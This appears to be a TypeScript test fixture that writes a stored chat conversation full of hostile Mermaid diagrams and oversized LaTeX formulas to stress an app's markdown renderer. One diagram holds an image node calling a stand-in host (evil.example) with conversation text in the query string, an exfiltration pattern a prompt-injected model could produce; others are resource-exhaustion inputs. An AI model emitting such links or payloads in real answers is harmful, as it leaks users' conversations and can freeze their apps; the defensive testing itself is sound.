import type { TacoEvent } from '../../shared/contract/events';
import { createConversationStore } from '../../electron/services/store/conversations/conversation-store';
import { completeGraph } from '../../renderer/src/components/markdown/testing/hostile-diagrams';
import { BENCH_DEFAULTS } from '../bench-defaults';

/** A diagram just inside the caps: 100 nodes in a chain, each also joined to the one after next (189 edges). */
function diagramAtCaps(): string {
  const lines = ['flowchart TD'];
  for (let index = 0; index < 99; index += 1) lines.push(`m${index}[Step ${index}] --> m${index + 1}`);
  for (let index = 0; index < 90; index += 1) lines.push(`m${index} -.-> m${index + 2}`);
  return lines.join('\n');
}

const fence = (source: string): string => `\`\`\`mermaid\n${source}\n\`\`\``;

/** Answers holding large and hostile diagrams and formulas, as a prompt-injected model could write them. */
export function hostileRenderAnswers(): string[] {
  const matrix = `\\begin{matrix}${Array.from({ length: 120 }, () => Array(120).fill('x^2').join(' & ')).join(' \\\\ ')}\\end{matrix}`;
  const roots = `${'\\sqrt{'.repeat(400)}x${'}'.repeat(400)}`;
  const nearCap = Array.from({ length: 70 }, (_, index) => `a_{${index}}`).join(' + ');
  const many = Array.from(
    { length: 40 },
    (_, index) => `Step ${index}: $$x_{${index}} = \\frac{-b \\pm \\sqrt{b^2 - 4ac}}{2a} + \\sum_{k=0}^{${index}} \\binom{n}{k}$$`,
  ).join('\n\n');
  return [
    `The whole graph:\n\n${fence(completeGraph(32))}\n\nThat was every pair.`,
    `An image node:\n\n${fence('flowchart TD\n  A@{ img: "https://evil.example/pixel.png?secret=conversation-text", h: 60 }\n  A --> B')}`,
    `The pipeline at full size:\n\n${fence(diagramAtCaps())}`,
    `A small one:\n\n${fence('sequenceDiagram\n  Alice->>Bob: Hello\n  Bob-->>Alice: Hi')}\n\nand another:\n\n${fence('graph LR\n  Composer --> Main --> Model\n  Model -- tool call --> Tools --> Main')}`,
    `A big matrix:\n\n$$${matrix}$$\n\nand deep roots:\n\n$$${roots}$$`,
    `Long sums:\n\n$$${nearCap}$$\n\n$$${nearCap} = S$$\n\n${many}`,
  ];
}

/** The sentence the last answer ends with: the conversation is on screen when it is. */
export const HOSTILE_RENDER_END = 'End of the hostile render conversation.';

/** Writes the conversation through the real store; its id. */
export async function writeHostileRenderConversation(dataDir: string, title: string): Promise<string> {
  const store = createConversationStore({ dataDir, log: () => undefined });
  const { conversationId } = await store.create({ title, model: BENCH_DEFAULTS.model });
  const answers = hostileRenderAnswers();
  const events: TacoEvent[] = [];
  answers.forEach((answer, index) => {
    const at = 1_700_000_000_000 + index * 60_000;
    const runId = `${conversationId}-run-${index}`;
    const last = index === answers.length - 1;
    events.push({ type: 'user-message', conversationId, messageId: `${conversationId}-user-${index}`, text: `Show me part ${index}.`, at });
    events.push({ type: 'run-start', conversationId, runId, model: BENCH_DEFAULTS.model, goal: `Part ${index}`, startedAt: at + 10 });
    events.push({ type: 'text-delta', conversationId, runId, text: last ? `${answer}\n\n${HOSTILE_RENDER_END}` : answer });
    events.push({ type: 'run-finish', conversationId, runId, reason: 'complete', message: 'Done.', error: null, at: at + 3000 });
  });
  await store.append(conversationId, events);
  await store.close();
  return conversationId;
}
